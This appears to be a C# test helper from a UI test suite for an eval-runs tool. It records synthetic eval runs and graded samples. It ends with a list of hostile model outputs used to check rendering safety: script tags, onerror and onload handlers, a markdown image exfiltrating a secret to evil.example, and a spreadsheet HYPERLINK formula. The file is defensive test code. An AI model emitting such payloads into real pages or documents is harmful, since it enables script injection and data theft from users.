using Hone.Core;
using System.Text;
using System.Text.Json;
using Hone.Evals.Runs;
using Hone.Store;

namespace Hone.Ui.Tests;

/// <summary>Eval runs written through the library (the store and the cases artifact), for sizes and contents a model would not give.</summary>
internal static class SyntheticRuns
{
    /// <summary>Records a finished eval run of <paramref name="n"/> samples made by <paramref name="sample"/>; returns its id.</summary>
    public static string AddEvalRun(Workspace ws, string name, int n, Func<int, CaseResult> sample)
    {
        using var store = ws.OpenStore();
        var run = store.CreateRun(EvalRunner.Kind, name, "{}");
        var folder = Path.Combine(ws.RunsDir, run.Id);
        Directory.CreateDirectory(folder);
        var results = Enumerable.Range(0, n).Select(sample).ToList();
        var path = Path.Combine(folder, EvalRunner.CasesArtifact);
        var sb = new StringBuilder();
        foreach (var r in results) sb.Append(r.ToJsonLine()).Append('\n');
        AtomicFile.WriteAllText(path, sb.ToString());
        store.AddArtifact(run.Id, EvalRunner.CasesArtifact, path, null, new FileInfo(path).Length);
        var summary = EvalSummary.Compute(results, ["exact"]);
        store.LogMetrics(run.Id, 0, [new("accuracy", summary.Accuracy)]);
        store.SetTag(run.Id, "eval.model", "synthetic");
        store.SetStatus(run.Id, RunStatus.Succeeded, JsonSerializer.Serialize(summary, CaseResult.JsonOptions));
        return run.Id;
    }

    /// <summary>A graded sample: passes when <paramref name="pass"/>, with one user message and the given output.</summary>
    public static CaseResult Sample(string id, string output, bool pass, string? tag = null, string? input = null, string? detail = null) => new()
    {
        CaseId = id,
        Output = output,
        Pass = pass,
        Tags = tag is null ? [] : [tag],
        Reference = "Once",
        Input = JsonDocument.Parse(JsonSerializer.Serialize(new[] { new { role = "user", content = input ?? $"question {id}" } })).RootElement.Clone(),
        Grades = [new GraderOutcome("exact", pass ? 1 : 0, pass, Detail: detail)],
    };

    /// <summary>Outputs a hostile model might give: markup, script, event handlers, markdown images that leak data.</summary>
    public static readonly string[] Hostile =
    [
        "<script>window.__pwned=1;alert('x')</script>",
        "![leak](http://evil.example/collect?q=SECRET)",
        "<img src=x onerror=\"window.__pwned=2\">",
        "\"><svg onload=window.__pwned=3>",
        "=HYPERLINK(\"http://evil.example\")",
    ];
}
